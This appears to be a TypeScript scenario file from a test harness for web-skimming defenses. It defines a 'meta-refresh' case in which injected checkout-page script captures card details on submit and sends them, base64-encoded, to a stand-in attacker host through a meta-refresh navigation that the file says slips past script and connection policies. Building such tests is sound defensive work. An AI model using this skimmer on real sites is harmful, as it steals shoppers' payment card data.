import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'meta-refresh',
  why: "A refresh element navigates through the attacker's host and back: a navigation, which policies on scripts and connections do not forbid.",
  covers: ['hard: unusual channel', 'trigger: once', 'reading: submit'],
  base: 'direct',
  install: (site) => {
    site.serve('evil/go', { status: 302, headers: { location: `${site.origins.shop}/checkout/payment` } });
    site.append(
      withCard(js`
  if (sessionStorage.getItem('_m')) return;
  document.getElementById('checkout').addEventListener('submit', function (event) {
    event.preventDefault(); event.stopImmediatePropagation();
    sessionStorage.setItem('_m', '1');
    var meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0;url=${site.origins.evil}/go?d=' + encodeURIComponent(btoa(card()));
    document.head.append(meta);
  }, true);`),
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
